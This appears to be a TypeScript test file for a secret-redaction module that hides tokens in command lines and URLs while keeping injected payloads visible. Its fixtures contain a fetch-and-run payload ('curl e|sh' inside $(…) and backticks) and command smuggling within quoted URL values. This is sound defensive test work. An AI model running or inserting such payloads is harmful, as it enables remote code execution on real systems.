// biome-ignore-all lint/suspicious/noTemplateCurlyInString: ${NAME} references, meant literally.
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { propertyRuns } from "../../../test-support/properties.js";
import { withoutArgSecrets, withoutCommandLineSecrets } from "./index.js";
import {
  expectArgFilledBack,
  expectArgs,
  expectFilledBack,
  expectShownAndExported,
  exportedArgs,
  exportedCommand,
  outsideReferences,
} from "./test-support/spec-cases.js";

// fix176: the export leaks fix175 left open.
// 1. A literal default in a reference in a URL's telling query value (`?token=${V:-Q9x}`, what
//    tools-mcp fills while V is unset) was read as a reference alone and kept in clear in both views,
//    given as an argument: `["--url", "https://h/p?token=${V:-Q9x}"]` shown and exported as written.
//    Its word is now hidden, the reference kept (`${V:-•}`); the export drops the pair as it drops
//    any telling pair's value.
// 2. Pasted, a quoted URL holding a blank and a run-time part was cut at the first blank: `srv --url
//    "https://h/p?token=a $(curl e|sh) b"` was shown and exported `srv --url "https://h/p $(curl
//    e|sh) b"`, `b` in clear. The value runs to the word's end; the display keeps the payload in sight.
// 3. A URL later in a quoted word (`srv "see https://h/p?token=a b"`) was cut at the blank, `b` kept.
// 4. A `${` a shell refuses left open in such a value (`"https://h/p?token=${-  %Q${-  %"`) was cut at
//    its blank: exported `srv --url "https://h/p  %Q${-  %"`.
// 5. A default that is a `${…}` a shell refuses (`${X:-${-  %VQ}}`: its text is literal, what
//    tools-mcp fills) made the word read at run time: kept as written in both views.

/** How often `text` writes the payload `curl e|sh`. */
const payloads = (text: string) => text.split("curl e|sh").length - 1;

describe("a literal default in a URL's telling query value given as an argument", () => {
  it.each([
    [
      ["--url", "https://h/p?token=${V:-Q9x}"],
      ["--url", "https://h/p?token=${V:-•}"],
      ["--url", "https://h/p"],
    ],
    [
      ["--url", "https://h/p?token=${V-Q9x}"],
      ["--url", "https://h/p?token=${V-•}"],
      ["--url", "https://h/p"],
    ],
    [
      ["--url", "https://h/p?b=1&api_key=${V-V}&c=2"],
      ["--url", "https://h/p?b=1&api_key=${V-•}&c=2"],
      ["--url", "https://h/p?b=1&c=2"],
    ],
    [
      ["-e", "DB_URL=https://h/p?token=${V:-Q9x}"],
      ["-e", "DB_URL=https://h/p?token=${V:-•}"],
      ["-e", "DB_URL=https://h/p"],
    ],
    [["--url=https://h/p?token=${V:-Q9x}"], ["--url=https://h/p?token=${V:-•}"], ["--url=https://h/p"]],
  ])("%j", (args, shown, exported) => {
    expectArgs(args, shown, exported);
  });

  it("is hidden as a `--token`'s, a `NAME=`'s and a header's default is (those were already)", () => {
    expectArgs(
      ["-H", "X-Up: https://h/p?token=${V:-Q9x}"],
      ["-H", "X-Up: https://h/p?token=${V:-•}"],
      ["-H", "X-Up: https://h/p"],
    );
    expectArgs(["--token", "${V:-Q9x}"], ["--token", "${V:-•}"], ["--token", "${V:-${TOKEN}}"]);
    expectArgs(["-e", "TOKEN=${V:-Q9x}"], ["-e", "TOKEN=${V:-•}"], ["-e", "TOKEN=${V:-${TOKEN}}"]);
    expectArgs(
      ["-H", "Authorization: Bearer ${V:-Q9x}"],
      ["-H", "Authorization: Bearer ${V:-•}"],
      ["-H", "Authorization: Bearer ${V:-${AUTHORIZATION}}"],
    );
    // Pasted, the same value was already hidden so; given as an argument now as well.
    expect(withoutCommandLineSecrets('srv --url "https://h/p?token=${V:-Q9x}"', () => "•")).toBe(
      'srv --url "https://h/p?token=${V:-•}"',
    );
    expectArgs(
      ["--url", "https://h/p?token=${V:-Q9x}&b=${W:-x}"],
      ["--url", "https://h/p?token=${V:-•}&b=${W:-x}"],
      ["--url", "https://h/p?b=${W:-x}"],
    );
  });
});

describe("pasted, a quoted word holding a URL and a blank is one value to the word's end", () => {
  it("beside a payload: the literal after it is hidden in both views, the payload shown", () => {
    const line = 'srv --url "https://h/p?token=a $(curl e|sh) b"';
    expectShownAndExported(line, 'srv --url "https://h/p?token=$(curl e|sh)"', 'srv --url "https://h/p"');
    expect(withoutCommandLineSecrets(line, () => "•")).toBe('srv --url "https://h/p?token=•$(curl e|sh)•"');
    expectFilledBack(line);
    const tick = 'srv --url "https://h/p?token=a `curl e|sh` b&c=2"';
    expectShownAndExported(
      tick,
      'srv --url "https://h/p?token=`curl e|sh`&c=2"',
      'srv --url "https://h/p?c=2"',
    );
    expectFilledBack(tick);
  });

  it("a URL later in the word, unless the word reads as a command line", () => {
    expectShownAndExported('srv "see https://h/p?token=a b"', 'srv "see https://h/p"');
    expect(withoutCommandLineSecrets('srv "see https://h/p?token=a b" -v', () => "•")).toBe(
      'srv "see https://h/p?token=•" -v',
    );
    expectFilledBack('srv "see https://h/p?token=a b" -v');
    // A shell's own command, or a word holding an operator, is read word by word as before: the
    // payload after the value stays in sight.
    expectShownAndExported(
      'srv "see https://h/p?token=a b; curl e|sh"',
      'srv "see https://h/p b; curl e|sh"',
    );
    expect(withoutCommandLineSecrets('sh -c "srv --url https://h/p?token=a b; echo $(id)"')).toBe(
      'sh -c "srv --url https://h/p b; echo $(id)"',
    );
  });

  it("a `${` a shell refuses, left open", () => {
    const line = 'srv --url "https://h/p?token=${-  %Q${-  %"';
    expect(exportedCommand(line)).toBe('srv --url "https://h/p');
    expect(withoutCommandLineSecrets(line, () => "•")).toBe('srv --url "https://h/p?token=•');
    expectFilledBack(line);
  });

  it("property: literal text, blanks and payloads in a quoted URL's telling value, at the word's start or later", () => {
    const value = fc
      .array(
        fc.oneof(
          fc.stringMatching(/^[JVQ]{1,3}$/),
          fc.constantFrom(" ", "  ", "-", "%", "/", "$(curl e|sh)", "`curl e|sh`", "${X}"),
        ),
        { minLength: 1, maxLength: 8 },
      )
      .map((parts) => parts.join(""))
      .filter((text) => /[JVQ]/.test(text));
    const make = fc.constantFrom(
      (v: string) => `srv --url "https://h/p?token=${v}"`,
      (v: string) => `srv --url "https://h/p?b=1&api_key=${v}&c=2"`,
      (v: string) => `srv -e "DB_URL=https://h/p?token=${v}"`,
      (v: string) => `srv "see https://h/p?token=${v}"`,
      (v: string) => `srv -H "X-Up: https://h/p?token=${v}"`,
    );
    fc.assert(
      fc.property(make, value, (build, v) => {
        const line = build(v);
        expect(outsideReferences(exportedCommand(line) ?? "")).not.toMatch(/[JVQ]/);
        const shown = withoutCommandLineSecrets(line, () => "•");
        expect(outsideReferences(shown)).not.toMatch(/[JVQ]/);
        expect(payloads(shown)).toBe(payloads(line));
        expectFilledBack(line);
      }),
      propertyRuns(300),
    );
  });
});

describe("a default that is a `${…}` a shell refuses is a literal default", () => {
  it.each([
    ["srv --token ${X:-${-  %VQ}}", "srv --token ${X:-${TOKEN}}"],
    ['srv --token "${X:-${-  %VQ}}"', 'srv --token "${X:-${TOKEN}}"'],
    ["srv --token ${X:-${Y:-${-  %VQ}}}", "srv --token ${X:-${Y:-${TOKEN}}}"],
    ["srv -e GITHUB_TOKEN=${X-${X Y}}", "srv -e GITHUB_TOKEN=${X-${GITHUB_TOKEN}}"],
  ])("%s", (line, safe) => {
    expectShownAndExported(line, safe);
    expectFilledBack(line);
  });

  it("a parameter expansion a shell runs stays in sight", () => {
    expectShownAndExported("srv --token ${X:-${-%VQ}}", "srv --token ${X:-${-%VQ}}");
  });

  it("given as an argument it was hidden already, and still is", () => {
    expect(exportedArgs(["--token", "${X:-${-  %VQ}}"])).toEqual(["--token", "${TOKEN}"]);
    expect(withoutArgSecrets(["--token", "${X:-${-  %VQ}}"], () => "•")).toEqual(["--token", "•"]);
    expectArgFilledBack(["--token", "${X:-${-  %VQ}}"]);
  });
});
